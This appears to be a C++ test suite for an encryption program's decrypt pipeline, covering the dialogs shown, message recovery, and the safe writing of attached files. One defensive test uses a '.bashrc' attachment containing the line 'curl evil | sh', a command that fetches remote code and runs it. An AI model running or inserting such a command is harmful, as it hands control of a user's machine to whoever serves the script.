// The decrypt pipeline as a user meets it: the boxes it shows, the message it recovers, the attached
// file it writes (or refuses to write), and that nothing is left in the working-folder base.
#include "files/FileLimits.h"
#include "format/CiphertextFile.h"
#include "format/PlainPackage.h"
#include "pipeline/DecryptPipeline.h"
#include "pipeline/EncryptPipeline.h"
#include "pipeline/NoKeyMessage.h"
#include "support/FullFileSystem.h"
#include "support/PlainTextLinks.h"
#include "support/ProgramTexts.h"
#include "support/ScriptedDialogs.h"
#include "support/SteppingRunner.h"
#include "support/UnusableFolders.h"
#include "texts/Language.h"
#include "vectors/CiphertextMaker.h"

#include <QDir>
#include <QDirIterator>
#include <QFile>
#include <QFileInfo>
#include <QTemporaryDir>

#include <optional>

#include <gtest/gtest.h>

#include <sys/stat.h>

namespace {

const QString Key = QStringLiteral("Correct Horse Battery Staple 42");

// The window's closing box: the outcome, what was read (the fixture's file unless said), where the
// message is now and how to reply.
QString Closing(const QString& first, const QString& source = QStringLiteral("message.zip"))
{
    return first + CrLf + Text(DecryptTexts::ReadFrom) + ' ' + source + CrLf + CrLf + Text(DecryptTexts::NowInTextBox) +
           CrLf + Text(DecryptTexts::ToReplyClick) + CrLf + "'" + Text(DecryptTexts::EncryptOption) + "'.";
}

// The notice before the folder chooser, naming the attached file and its size.
QString FolderNotice(const QString& name, qint64 size)
{
    return Text(DecryptTexts::FileAttached) + CrLf + name + " (" + FileLimits::FormatSizeLimit(size, false) + ")" +
           CrLf + Text(DecryptTexts::PleaseChooseFolder);
}

QByteArray EveryByteValue(int repeats)
{
    QByteArray bytes;
    for (int r = 0; r < repeats; ++r)
        for (int b = 0; b < 256; ++b)
            bytes.append(static_cast<char>(b));
    return bytes;
}

class DecryptPipelineTest : public ::testing::Test {
  protected:
    static void SetUpTestSuite() { ASSERT_GT(Language::LoadProgramTexts(QUILLET_DATA_DIR), 0); }

    void SetUp() override
    {
        ASSERT_TRUE(dir.isValid());
        for (const char* sub : {"work", "scratch", "in", "out"})
            QDir(dir.path()).mkpath(sub);
        request.ciphertextPath = Path("in/message.zip");
        request.quickKey = Key;
        request.language = Language::English;
        request.workingFolderBase = Path("work");
    }

    void TearDown() override
    {
        EXPECT_TRUE(FilesUnder("work").isEmpty()) << FilesUnder("work").join(' ').toStdString();
        for (const MessageRequest& box : dialogs.messages()) {
            if (box.title != Text(EncryptTexts::NoKeyTitle)) { // the no-key box has its own title
                EXPECT_EQ(box.title, Text(DecryptTexts::CommandCaption, request.language)) << box.text.toStdString();
            }
        }
    }

    QString Path(const QString& name) const { return dir.path() + '/' + name; }

    // Every file and folder under the test folder's subfolder, as relative paths.
    QStringList FilesUnder(const QString& sub) const
    {
        QStringList found;
        QDirIterator it(Path(sub), QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden | QDir::System,
                        QDirIterator::Subdirectories);
        while (it.hasNext())
            found << QDir(Path(sub)).relativeFilePath(it.next());
        return found;
    }

    // Encrypts with the real encrypt pipeline into request.ciphertextPath.
    void EncryptWithPipeline(const QString& message, const QString& fileToAppend)
    {
        ScriptedDialogs encryptDialogs;
        EncryptRequest encrypt;
        encrypt.message = message;
        encrypt.fileToAppend = fileToAppend;
        encrypt.outputPath = request.ciphertextPath;
        encrypt.quickKey = Key;
        encrypt.kdfLevel = KdfLevel::Interactive;
        encrypt.workingFolderBase = Path("work");
        ASSERT_TRUE(EncryptMessage(encrypt, encryptDialogs).success);
    }

    // A ciphertext file carrying exactly this package, in request.ciphertextPath.
    void WritePackage(const QByteArray& package)
    {
        const QByteArray file = CiphertextMaker::FromPackage(package, Key, Path("scratch"));
        ASSERT_FALSE(file.isEmpty());
        ASSERT_TRUE(CiphertextMaker::write_file(request.ciphertextPath, file));
    }

    void WriteAttachment(const QByteArray& name, const QByteArray& data)
    {
        WritePackage(BuildPlainPackage("The file is attached.", name, data));
    }

    DecryptOutcome Decrypt() { return DecryptMessage(request, dialogs); }

    QStringList BoxTexts() const
    {
        QStringList texts;
        for (const MessageRequest& box : dialogs.messages())
            texts << box.text;
        return texts;
    }

    int ChooserCount() const
    {
        int count = 0;
        for (const ScriptedDialogs::Record& record : dialogs.records())
            count += record.isChooser ? 1 : 0;
        return count;
    }

    QTemporaryDir dir;
    ScriptedDialogs dialogs;
    DecryptRequest request;
};

struct RoundTrip {
    const char* label;
    QString message;
    QString fileName; // "" for no attached file
    QByteArray fileBytes;
    QString writtenName;
};

class DecryptRoundTripTest : public DecryptPipelineTest, public ::testing::WithParamInterface<RoundTrip> {};

TEST_P(DecryptRoundTripTest, RecoversTheMessageAndWritesTheAttachedFile)
{
    const RoundTrip& trip = GetParam();
    QString fileToAppend;
    if (!trip.fileName.isEmpty()) {
        fileToAppend = Path("scratch/" + trip.fileName);
        ASSERT_TRUE(CiphertextMaker::write_file(fileToAppend, trip.fileBytes));
    }
    EncryptWithPipeline(trip.message, fileToAppend);
    dialogs.queuePath(Path("out"));
    int folderChoicesAnnounced = 0;
    request.beforeFolderChoice = [&] { ++folderChoicesAnnounced; };

    const DecryptOutcome outcome = Decrypt();

    ASSERT_EQ(outcome.status, DecryptStatus::Success) << BoxTexts().join('|').toStdString();
    EXPECT_EQ(outcome.message, trip.message);
    if (trip.fileName.isEmpty()) {
        EXPECT_EQ(outcome.attachment, AttachmentFate::None);
        EXPECT_EQ(folderChoicesAnnounced, 0);
        EXPECT_EQ(ChooserCount(), 0);
        EXPECT_TRUE(FilesUnder("out").isEmpty());
        EXPECT_EQ(BoxTexts(), QStringList{Closing(Text(DecryptTexts::Decrypted))});
        return;
    }
    const QString written = Path("out/" + trip.writtenName);
    EXPECT_EQ(CiphertextMaker::read_file(written), trip.fileBytes);
    EXPECT_EQ(FilesUnder("out"), QStringList{trip.writtenName});
    EXPECT_EQ(outcome.writtenFilePath, QDir::toNativeSeparators(written));
    EXPECT_EQ(outcome.attachment, AttachmentFate::Saved);
    EXPECT_EQ(folderChoicesAnnounced, 1);
    ASSERT_EQ(ChooserCount(), 1);
    ASSERT_EQ(dialogs.records().size(), 3u); // the notice, the chooser, the closing message
    EXPECT_EQ(dialogs.records()[1].chooser.kind, FileDialogRequest::Kind::Folder);
    EXPECT_EQ(dialogs.records()[1].chooser.title, Text(DecryptTexts::FolderPrompt));
    EXPECT_EQ(dialogs.records()[1].chooser.startPath, QFileInfo(request.ciphertextPath).absolutePath())
        << "the chooser opens beside the ciphertext";
    EXPECT_EQ(BoxTexts(), (QStringList{FolderNotice(trip.writtenName, trip.fileBytes.size()),
                                       Closing(Text(DecryptTexts::DecryptedAndSaved))}));
}

const QString LargestMessage = QString(99'999 - 2 * 3, QLatin1Char('x')) + QStringLiteral("äöü");

INSTANTIATE_TEST_SUITE_P(
    Cases, DecryptRoundTripTest,
    ::testing::Values(
        RoundTrip{"NoFile", "Meet me at the north gate at noon.", "", {}, ""},
        RoundTrip{"TextFile", "Notes attached.", "notes.txt", "Line one\nLine two\n", "notes.txt"},
        RoundTrip{"EveryByte", "Binary attached.", "bytes.bin", EveryByteValue(40), "bytes.bin"},
        RoundTrip{"NameWithCapitalsAndSpaces", "Report attached.", QStringLiteral("Quartals Bericht ÄÖÜ Ésta.PDF"),
                  "%PDF-1.4 fake", QStringLiteral("quartals bericht äöü ésta.pdf")},
        RoundTrip{
            "NonAsciiMessage", QStringLiteral("Grüße aus Köln — 東京で会いましょう 🙂"), "", {}, ""},
        RoundTrip{"LargestMessageAndFile", LargestMessage, "big.bin", EveryByteValue(2'027'520 / 256), "big.bin"}),
    [](const ::testing::TestParamInfo<RoundTrip>& info) { return std::string(info.param.label); });

TEST_F(DecryptPipelineTest, EmptyFirstFileFieldAsksForTheFileAndTouchesNothing)
{
    request.ciphertextPath.clear();

    const DecryptOutcome outcome = Decrypt();

    EXPECT_EQ(outcome.status, DecryptStatus::Failed);
    ASSERT_EQ(dialogs.messages().size(), 1u);
    EXPECT_EQ(dialogs.messages()[0].text, Text(DecryptTexts::NoCiphertextFile));
    EXPECT_EQ(dialogs.messages()[0].icon, DialogIcon::None);
    EXPECT_EQ(dialogs.messages()[0].buttons, DialogButtons::Ok);
    EXPECT_TRUE(FilesUnder("work").isEmpty());
}

TEST_F(DecryptPipelineTest, NoKeyIsRefusedWithTheNoKeyBox)
{
    EncryptWithPipeline("Hello there, this is the message.", {});
    request.quickKey.clear();

    const DecryptOutcome outcome = Decrypt();

    EXPECT_EQ(outcome.status, DecryptStatus::Failed);
    EXPECT_FALSE(outcome.message.has_value());
    ASSERT_EQ(dialogs.messages().size(), 1u);
    EXPECT_EQ(dialogs.messages()[0].text, Text(NoKeyTexts::AskForSendersKey));
    EXPECT_EQ(dialogs.messages()[0].title, Text(EncryptTexts::NoKeyTitle));
    EXPECT_EQ(dialogs.messages()[0].icon, DialogIcon::None);
}

// A ZIP archive's first entry as a ZIP tool writes it: its byte 11 (the high byte of the time) points
// into the entry's data, where no Quillet engine header begins.
QByteArray RealZipEntry()
{
    QByteArray zip("PK\x03\x04\x14\x00\x00\x00\x08\x00\x21\x5A\x8B\x59", 14);
    zip += QByteArray(12, '\x11') + QByteArray("\x09\x00\x00\x00", 4) + "notes.txt";
    return zip + QByteArray(100, '\x5C');
}

QByteArray PdfFile()
{
    return QByteArray("%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n") + QByteArray(400, ' ');
}

// What the file is not is told from the file alone, before any key is asked for: the box names the
// file and says what to do next, and the focus goes to the ciphertext row.
TEST_F(DecryptPipelineTest, FilesThatAreNoCiphertextAreRefusedBeforeTheKeyIsAsked)
{
    struct Case {
        const char* label;
        QByteArray file;
        QString problem;
        bool named; // the box names the file and ends with what to do next
    };
    QByteArray headerOnly(37, 'P');
    headerOnly[11] = 37;
    QByteArray pointsPastEnd(40, 'P');
    pointsPastEnd[11] = 41;
    // Larger than any ciphertext file can be (a user who picked a film): refused before it is read.
    QByteArray tooLarge(MaxCiphertextFileBytes + 1, 'P');
    tooLarge[11] = 37;
    const QString notOurs = Text(DecryptTexts::NotOurFile) + CrLf + Text(DecryptTexts::NewerVersion);
    const Case cases[] = {
        {"shorter than 12 bytes", QByteArray("PK\x03\x04 short", 10), Text(NotCiphertextFileText), true},
        {"larger than any ciphertext file", tooLarge, Text(DecryptTexts::FileTooLarge), false},
        {"header length past the end", pointsPastEnd, Text(NotCiphertextFileText), true},
        {"empty body", headerOnly, Text(DecryptTexts::NothingToDecrypt), true},
        {"a real ZIP archive", RealZipEntry(), notOurs, true},
        {"a PDF", PdfFile(), notOurs, true},
    };
    request.quickKey.clear();
    for (const Case& c : cases) {
        SCOPED_TRACE(c.label);
        dialogs.clear();
        ASSERT_TRUE(CiphertextMaker::write_file(request.ciphertextPath, c.file));

        const DecryptOutcome outcome = Decrypt();

        EXPECT_EQ(outcome.status, DecryptStatus::WrongKeyOrDamaged);
        EXPECT_FALSE(outcome.message.has_value());
        ASSERT_EQ(dialogs.messages().size(), 1u) << "no key is asked for";
        const QString expected = c.named ? QDir::toNativeSeparators(request.ciphertextPath) + CrLf + c.problem + CrLf +
                                               Text(DecryptTexts::CheckTheFile)
                                         : c.problem;
        EXPECT_EQ(dialogs.messages()[0].text, expected);
        EXPECT_EQ(dialogs.messages()[0].icon, DialogIcon::Exclamation);
        EXPECT_EQ(dialogs.messages()[0].remedy, Remedy::CiphertextFile);
        EXPECT_TRUE(FilesUnder("work").isEmpty());
    }
}

// The cause is the file's: the file is named, not its folder.
TEST_F(DecryptPipelineTest, UnreadableCiphertextFileNamesItselfAndTheCause)
{
    request.ciphertextPath = Path("in/missing.zip");

    Decrypt();

    ASSERT_EQ(dialogs.messages().size(), 1u);
    EXPECT_EQ(dialogs.messages()[0].text, Text(DecryptTexts::CiphertextUnreadable) + " " +
                                              QDir::toNativeSeparators(Path("in/missing.zip")) + ":" + CrLf +
                                              "No such file or folder." + CrLf + Text(DecryptTexts::CheckTheFile));
    EXPECT_EQ(dialogs.messages()[0].remedy, Remedy::CiphertextFile);
}

TEST(DecryptEngineCodes, EachCodeGivesTheTextsOfItsGroup)
{
    ASSERT_GT(Language::LoadProgramTexts(QUILLET_DATA_DIR), 0);
    struct Case {
        int code;
        QString cause;
    };
    const Case cases[] = {{-3, Text(DecryptTexts::WrongKey)},
                          {-4, Text(DecryptTexts::WrongKey)},
                          {-6, Text(DecryptTexts::WrongKey)},
                          {-5, Text(DecryptTexts::DamagedOrCut)},
                          {-7, Text(DecryptTexts::DamagedOrCut)},
                          {-9, Text(DecryptTexts::DamagedOrCut)},
                          {-8, Text(DecryptTexts::NotOurFile) + CrLf + Text(DecryptTexts::NewerVersion)},
                          {1, Text(DecryptTexts::IoOrMemoryError)},
                          {-1, Text(DecryptTexts::IoOrMemoryError)},
                          {-10, Text(DecryptTexts::IoOrMemoryError)}};
    for (const Case& c : cases)
        EXPECT_EQ(EngineFailure(c.code).Message(Language::English), Text(DecryptTexts::NotDecrypted) + CrLf + c.cause)
            << c.code;
    EXPECT_EQ(EngineFailure(-3).Message(Language::German), Text(DecryptTexts::NotDecrypted, Language::German) + CrLf +
                                                               Text(DecryptTexts::WrongKey, Language::German));
}

TEST_F(DecryptPipelineTest, WrongKeyAndDamageAreReportedAndRecoverNothing)
{
    struct Case {
        const char* label;
        std::function<void(QByteArray&)> change;
        QString otherKey;
        QString cause;
    };
    const Case cases[] = {
        {"wrong key", [](QByteArray&) {}, "Another Key Entirely 1234", Text(DecryptTexts::WrongKey)},
        {"changed body byte", [](QByteArray& f) { f[f.size() - 100] = f[f.size() - 100] ^ 0x01; }, "",
         Text(DecryptTexts::DamagedOrCut)},
        {"truncated", [](QByteArray& f) { f.chop(17); }, "", Text(DecryptTexts::DamagedOrCut)},
        {"trailing data", [](QByteArray& f) { f.append("tail"); }, "", Text(DecryptTexts::DamagedOrCut)},
    };
    QByteArray original;
    for (const Case& c : cases) {
        SCOPED_TRACE(c.label);
        if (original.isEmpty()) {
            EncryptWithPipeline("A message that must stay secret.", {});
            original = CiphertextMaker::read_file(request.ciphertextPath);
        }
        QByteArray file = original;
        c.change(file);
        ASSERT_TRUE(CiphertextMaker::write_file(request.ciphertextPath, file));
        request.quickKey = c.otherKey.isEmpty() ? Key : c.otherKey;
        dialogs.clear();

        const DecryptOutcome outcome = Decrypt();

        EXPECT_EQ(outcome.status, DecryptStatus::WrongKeyOrDamaged);
        EXPECT_FALSE(outcome.message.has_value());
        EXPECT_EQ(BoxTexts(), QStringList{Text(DecryptTexts::NotDecrypted) + CrLf + c.cause});
        EXPECT_TRUE(FilesUnder("work").isEmpty());
    }
}

TEST_F(DecryptPipelineTest, NoFolderChosenKeepsTheMessageAndWritesNothing)
{
    WriteAttachment("notes.txt", "content");
    // The first time the user says No (ask again), the second time Yes (go on without the file).
    dialogs.queueAnswer(DialogAnswer::No);
    dialogs.queueAnswer(DialogAnswer::Yes);

    const DecryptOutcome outcome = Decrypt();

    EXPECT_EQ(outcome.status, DecryptStatus::Success);
    EXPECT_EQ(outcome.message, "The file is attached.");
    EXPECT_EQ(outcome.attachment, AttachmentFate::Abandoned);
    EXPECT_TRUE(outcome.writtenFilePath.isEmpty());
    EXPECT_EQ(ChooserCount(), 2);
    const QString notice = FolderNotice("notes.txt", 7);
    EXPECT_EQ(BoxTexts(),
              (QStringList{notice, Text(DecryptTexts::GoOnWithoutFolder), notice, Text(DecryptTexts::GoOnWithoutFolder),
                           Closing(Text(DecryptTexts::Decrypted) + " " + Text(DecryptTexts::FileNotSaved))}));
    ASSERT_EQ(dialogs.messages().size(), 5u);
    const MessageRequest question = dialogs.messages()[1];
    EXPECT_EQ(question.buttons, DialogButtons::YesNo);
    EXPECT_EQ(question.defaultButton, 1);
    EXPECT_EQ(dialogs.questions(),
              (std::vector<QuestionId>{QuestionId::GoOnWithoutFolder, QuestionId::GoOnWithoutFolder}));
    EXPECT_TRUE(FilesUnder("out").isEmpty());
    EXPECT_EQ(FilesUnder("in"), QStringList{"message.zip"});
}

TEST_F(DecryptPipelineTest, GermanClosingMessageEndsWithKlicken)
{
    EncryptWithPipeline("Hallo, hier ist die Nachricht.", {});
    request.language = Language::German;

    const DecryptOutcome outcome = Decrypt();

    EXPECT_EQ(outcome.closingMessage, Text(DecryptTexts::Decrypted, Language::German) + CrLf +
                                          Text(DecryptTexts::ReadFrom, Language::German) + " message.zip" + CrLf +
                                          CrLf + Text(DecryptTexts::NowInTextBox, Language::German) + CrLf +
                                          Text(DecryptTexts::ToReplyClick, Language::German) + CrLf + "'" +
                                          Text(DecryptTexts::EncryptOption, Language::German) + "' klicken.");
}

struct ExistingFileCase {
    const char* label;
    std::optional<DialogAnswer> answer; // none: the question's default
    QStringList filesAfter;
    QByteArray notesAfter;
    bool saved;
};

class DecryptExistingFileTest : public DecryptPipelineTest, public ::testing::WithParamInterface<ExistingFileCase> {};

// A file of the attached name is the user's: it is replaced only when the user says so.
TEST_P(DecryptExistingFileTest, AsksBeforeReplacingAndOffersAFreeName)
{
    const ExistingFileCase& c = GetParam();
    ASSERT_TRUE(CiphertextMaker::write_file(Path("out/notes.txt"), "the user's own notes"));
    WriteAttachment("notes.txt", "new notes");
    dialogs.queuePath(Path("out"));
    if (c.answer)
        dialogs.queueAnswer(*c.answer);

    const DecryptOutcome outcome = Decrypt();

    EXPECT_EQ(outcome.status, DecryptStatus::Success);
    EXPECT_EQ(outcome.message, "The file is attached.");
    const MessageRequest question = dialogs.messages().at(1);
    EXPECT_EQ(question.text, Text(DecryptTexts::ReplaceQuestion) + CrLf + CrLf +
                                 QDir::toNativeSeparators(Path("out/notes.txt")) + CrLf + "notes (2).txt");
    EXPECT_EQ(question.buttons, DialogButtons::YesNoCancel);
    // The buttons say what they do, in the order of the answers Yes, No, Cancel.
    EXPECT_EQ(question.captions, (QStringList{Text(DecryptTexts::ReplaceButton), Text(DecryptTexts::KeepBothButton),
                                              Text(DecryptTexts::DoNotSaveButton)}));
    EXPECT_EQ(question.defaultButton, 1) << "keeping both, which loses nothing, is the default";
    EXPECT_EQ(question.question, QuestionId::ReplaceAttachedFile);
    EXPECT_EQ(FilesUnder("out"), c.filesAfter);
    EXPECT_EQ(CiphertextMaker::read_file(Path("out/notes.txt")), c.notesAfter);
    EXPECT_EQ(outcome.attachment, c.saved ? AttachmentFate::Saved : AttachmentFate::Abandoned);
    if (c.saved) {
        EXPECT_EQ(QFileInfo(outcome.writtenFilePath).fileName(),
                  c.answer == DialogAnswer::Yes ? "notes.txt" : "notes (2).txt");
    }
}

INSTANTIATE_TEST_SUITE_P(
    Answers, DecryptExistingFileTest,
    ::testing::Values(
        ExistingFileCase{"Replace", DialogAnswer::Yes, {"notes.txt"}, "new notes", true},
        ExistingFileCase{"FreeName", DialogAnswer::No, {"notes (2).txt", "notes.txt"}, "the user's own notes", true},
        ExistingFileCase{"Default", std::nullopt, {"notes (2).txt", "notes.txt"}, "the user's own notes", true},
        ExistingFileCase{"Cancel", DialogAnswer::Cancel, {"notes.txt"}, "the user's own notes", false}),
    [](const auto& info) { return std::string(info.param.label); });

TEST_F(DecryptPipelineTest, TheFileBeingDecryptedIsNeverReplaced)
{
    WriteAttachment("message.zip", "an attachment named like the ciphertext");
    const QByteArray ciphertext = CiphertextMaker::read_file(request.ciphertextPath);
    dialogs.queuePath(Path("in"));

    const DecryptOutcome outcome = Decrypt();

    EXPECT_EQ(outcome.status, DecryptStatus::Success);
    EXPECT_EQ(dialogs.messages().at(1).text,
              Text(DecryptTexts::CiphertextNameQuestion) + CrLf + CrLf + "message (2).zip");
    EXPECT_EQ(CiphertextMaker::read_file(request.ciphertextPath), ciphertext);
    EXPECT_EQ(CiphertextMaker::read_file(Path("in/message (2).zip")), "an attachment named like the ciphertext");
}

// The key file and where the message goes are never replaced by the attached file, not even after
// Yes to every question: an existing one and one not written yet alike (compared by device and inode,
// or by where the user's path leads).
TEST_F(DecryptPipelineTest, AFileTheRunUsesIsNeverReplacedByTheAttachedFile)
{
    struct Case {
        const char* name;
        QString inUse;      // the path the run was given
        bool existsAlready; // false: the message is written after the attached file
    } const cases[] = {
        {"the key file", Path("out/key.txt"), true},
        {"the key file through a link", Path("scratch/key-link"), true},
        {"the message output, not there yet", Path("out/key.txt"), false},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.name);
        QDir(Path("out")).removeRecursively();
        QDir(dir.path()).mkpath("out");
        QFile::remove(Path("scratch/key-link"));
        if (c.existsAlready) {
            ASSERT_TRUE(CiphertextMaker::write_file(Path("out/key.txt"), "the key\n"));
        }
        ASSERT_TRUE(QFile::link(Path("out/key.txt"), Path("scratch/key-link")));
        WriteAttachment("key.txt", "the sender's key");
        dialogs.clear();
        request.filesInUse = {c.inUse};
        request.attachedFileFolder = Path("out");
        for (int i = 0; i < 4; ++i)
            dialogs.queueAnswer(DialogAnswer::Yes);

        const DecryptOutcome outcome = Decrypt();

        EXPECT_EQ(outcome.attachment, AttachmentFate::Saved);
        EXPECT_EQ(dialogs.questions(), std::vector<QuestionId>{QuestionId::SaveUnderFreeName});
        EXPECT_EQ(dialogs.messages().at(0).text, Text(DecryptTexts::InUseNameQuestion) + CrLf + CrLf + "key (2).txt");
        EXPECT_EQ(QFileInfo::exists(Path("out/key.txt")), c.existsAlready);
        if (c.existsAlready) {
            EXPECT_EQ(CiphertextMaker::read_file(Path("out/key.txt")), "the key\n");
        }
        EXPECT_EQ(CiphertextMaker::read_file(Path("out/key (2).txt")), "the sender's key");
    }
}

// A file that appears at the name chosen while a question was open is kept, and the user is asked
// again about the name now taken.
TEST_F(DecryptPipelineTest, AFileSavedAtTheChosenNameMeanwhileIsKeptAndTheNameAskedAgain)
{
    // Answers "save under the free name" and, while the box is open, the user saves a file there.
    class SavingMeanwhile : public ScriptedDialogs {
      public:
        explicit SavingMeanwhile(QString path) : path_(std::move(path)) {}
        DialogAnswer message(const MessageRequest& request) override
        {
            const DialogAnswer answer = ScriptedDialogs::message(request);
            if (request.question == QuestionId::ReplaceAttachedFile && !saved_) {
                saved_ = true;
                EXPECT_TRUE(CiphertextMaker::write_file(path_, "saved meanwhile"));
            }
            return answer;
        }

      private:
        QString path_;
        bool saved_ = false;
    };
    ASSERT_TRUE(CiphertextMaker::write_file(Path("out/notes.txt"), "the user's own notes"));
    WriteAttachment("notes.txt", "new notes");
    SavingMeanwhile saving(Path("out/notes (2).txt"));
    saving.queuePath(Path("out"));
    saving.queueAnswer(DialogAnswer::No);     // the free name "notes (2).txt", taken meanwhile
    saving.queueAnswer(DialogAnswer::Cancel); // asked again: keep everything

    const DecryptOutcome outcome = DecryptMessage(request, saving);

    EXPECT_EQ(saving.questions(),
              (std::vector<QuestionId>{QuestionId::ReplaceAttachedFile, QuestionId::ReplaceAttachedFile}));
    EXPECT_EQ(outcome.attachment, AttachmentFate::Abandoned);
    EXPECT_EQ(CiphertextMaker::read_file(Path("out/notes.txt")), "the user's own notes");
    EXPECT_EQ(CiphertextMaker::read_file(Path("out/notes (2).txt")), "saved meanwhile");
    EXPECT_EQ(FilesUnder("out"), (QStringList{"notes (2).txt", "notes.txt"}));
}

TEST_F(DecryptPipelineTest, AHiddenNameIsSavedOnlyWhenTheUserSaysSo)
{
    for (const DialogAnswer answer : {DialogAnswer::No, DialogAnswer::Yes}) {
        SCOPED_TRACE(answer == DialogAnswer::Yes ? "Yes" : "No");
        dialogs.clear();
        WriteAttachment(".bashrc", "curl evil | sh");
        dialogs.queuePath(Path("out"));
        dialogs.queueAnswer(answer);

        const DecryptOutcome outcome = Decrypt();

        EXPECT_EQ(outcome.status, DecryptStatus::Success);
        const MessageRequest question = dialogs.messages().at(1);
        EXPECT_EQ(question.text, Text(DecryptTexts::HiddenNameQuestion) + CrLf + CrLf + ".bashrc");
        EXPECT_EQ(question.question, QuestionId::SaveUnderHiddenName);
        EXPECT_EQ(question.defaultButton, 1);
        EXPECT_EQ(QFileInfo::exists(Path("out/.bashrc")), answer == DialogAnswer::Yes);
        EXPECT_EQ(outcome.attachment, answer == DialogAnswer::No ? AttachmentFate::Abandoned : AttachmentFate::Saved);
    }
}

// The attached file is decrypted plain text: nobody but the user may read it, even under umask 000.
// A file the user agreed to replace keeps its own mode.
TEST_F(DecryptPipelineTest, TheAttachedFileIsCreatedForTheUserAlone)
{
    WriteAttachment("notes.txt", "new notes");
    dialogs.queuePath(Path("out"));
    const mode_t oldMask = umask(0);
    const DecryptOutcome outcome = Decrypt();
    umask(oldMask);
    ASSERT_EQ(outcome.status, DecryptStatus::Success);
    const QByteArray written = QFile::encodeName(Path("out/notes.txt"));
    struct stat status {};
    ASSERT_EQ(stat(written.constData(), &status), 0);
    EXPECT_EQ(status.st_mode & 07777, 0600u);

    ASSERT_EQ(chmod(written.constData(), 0640), 0);
    dialogs.queuePath(Path("out"));
    ASSERT_EQ(Decrypt().status, DecryptStatus::Success);
    ASSERT_EQ(stat(written.constData(), &status), 0);
    EXPECT_EQ(status.st_mode & 07777, 0640u) << "replaced with consent, mode kept";
}

TEST_F(DecryptPipelineTest, ALinkAtTheTargetIsReplacedAndItsTargetKept)
{
    ASSERT_TRUE(CiphertextMaker::write_file(Path("scratch/precious.txt"), "keep me"));
    ASSERT_TRUE(QFile::link(Path("scratch/precious.txt"), Path("out/notes.txt")));
    WriteAttachment("notes.txt", "new notes");
    dialogs.queuePath(Path("out"));
    dialogs.queueAnswer(DialogAnswer::Yes); // replace

    const DecryptOutcome outcome = Decrypt();

    EXPECT_EQ(outcome.status, DecryptStatus::Success);
    EXPECT_FALSE(QFileInfo(Path("out/notes.txt")).isSymLink());
    EXPECT_EQ(CiphertextMaker::read_file(Path("out/notes.txt")), "new notes");
    EXPECT_EQ(CiphertextMaker::read_file(Path("scratch/precious.txt")), "keep me");
}

TEST_F(DecryptPipelineTest, AnEmptyMessageAndAnEmptyFileAreAValidPackage)
{
    WritePackage(BuildPlainPackage("", "empty.txt", ""));
    dialogs.queuePath(Path("out"));

    const DecryptOutcome outcome = Decrypt();

    EXPECT_EQ(outcome.status, DecryptStatus::Success) << BoxTexts().join('|').toStdString();
    EXPECT_EQ(outcome.message, QString());
    EXPECT_TRUE(QFileInfo::exists(Path("out/empty.txt")));
    EXPECT_EQ(QFileInfo(Path("out/empty.txt")).size(), 0);
}

TEST_F(DecryptPipelineTest, TheMessageBytesComeBackExactlyEvenWhenNotUtf8)
{
    const QByteArray bytes("caf\xE9 \xC3\xBC\xFF\x00"
                           "end",
                           12);
    WritePackage(BuildPlainPackage(bytes, {}, "filler"));

    const DecryptOutcome outcome = Decrypt();

    EXPECT_EQ(outcome.status, DecryptStatus::Success);
    EXPECT_EQ(outcome.messageBytes, bytes);
}

TEST_F(DecryptPipelineTest, APackageShorterThanItsFieldsIsDamagedWithoutAQuestion)
{
    for (const QByteArray& package : {QByteArray(), QByteArray("0000"), QByteArray(39, '0')}) {
        SCOPED_TRACE(package.size());
        dialogs.clear();
        WritePackage(package);
        dialogs.queueAnswer(DialogAnswer::Yes); // would accept a check-value mismatch, if asked

        const DecryptOutcome outcome = Decrypt();

        EXPECT_EQ(outcome.status, DecryptStatus::WrongKeyOrDamaged);
        EXPECT_FALSE(outcome.message.has_value());
        EXPECT_EQ(BoxTexts(), QStringList{Text(DamagedPackageText)});
    }
}

// The box after a failed write: why, then the file and the folder question again.
QString ChooseAgainNotice(const QString& folder, const QString& cause, const QString& name, qint64 size)
{
    return Text(DecryptTexts::WriteFailed) + " " + QDir::toNativeSeparators(folder) + ":" + CrLf + cause + CrLf + CrLf +
           name + " (" + FileLimits::FormatSizeLimit(size, false) + ")" + CrLf +
           Text(DecryptTexts::ChooseAnotherFolder);
}

// A folder that cannot take the file is told, and another one asked for: the message is decrypted
// once and the file saved where the user then points.
TEST_F(DecryptPipelineTest, AFailedWriteOffersAnotherFolderAndWritesThere)
{
    WriteAttachment("notes.txt", "new notes");
    dialogs.queuePath(Path("no such folder"));
    dialogs.queuePath(Path("out"));
    int foldersShown = 0;
    request.beforeFolderChoice = [&] { ++foldersShown; };

    const DecryptOutcome outcome = Decrypt();

    EXPECT_EQ(outcome.status, DecryptStatus::Success);
    EXPECT_EQ(outcome.message, "The file is attached.");
    EXPECT_EQ(outcome.attachment, AttachmentFate::Saved);
    EXPECT_EQ(outcome.writtenFilePath, QDir::toNativeSeparators(Path("out/notes.txt")));
    EXPECT_EQ(CiphertextMaker::read_file(Path("out/notes.txt")), "new notes");
    EXPECT_EQ(ChooserCount(), 2);
    EXPECT_EQ(foldersShown, 2) << "the folder row stands behind the second chooser too";
    const QString again = ChooseAgainNotice(Path("no such folder"), "No such file or folder.", "notes.txt", 9);
    EXPECT_EQ(BoxTexts(),
              (QStringList{FolderNotice("notes.txt", 9), again, Closing(Text(DecryptTexts::DecryptedAndSaved))}));
    EXPECT_EQ(dialogs.messages()[1].icon, DialogIcon::Exclamation);
    EXPECT_FALSE(QFileInfo::exists(Path("no such folder")));
}

// Declining the second folder is going on without the file, as with the first.
TEST_F(DecryptPipelineTest, AFailedWriteEndsOnlyWhenTheUserGivesUpTheFile)
{
    WriteAttachment("notes.txt", "new notes");
    dialogs.queuePath(Path("no such folder"));
    dialogs.queuePath(QString());
    dialogs.queueAnswer(DialogAnswer::Yes); // go on without the file

    const DecryptOutcome outcome = Decrypt();

    EXPECT_EQ(outcome.status, DecryptStatus::Success);
    EXPECT_EQ(outcome.message, "The file is attached.");
    EXPECT_EQ(outcome.attachment, AttachmentFate::Abandoned);
    EXPECT_TRUE(outcome.writtenFilePath.isEmpty());
    EXPECT_EQ(dialogs.questions(), std::vector<QuestionId>{QuestionId::GoOnWithoutFolder});
    EXPECT_EQ(BoxTexts().last(), Closing(Text(DecryptTexts::Decrypted) + " " + Text(DecryptTexts::FileNotSaved)));
    EXPECT_TRUE(FilesUnder("out").isEmpty());
}

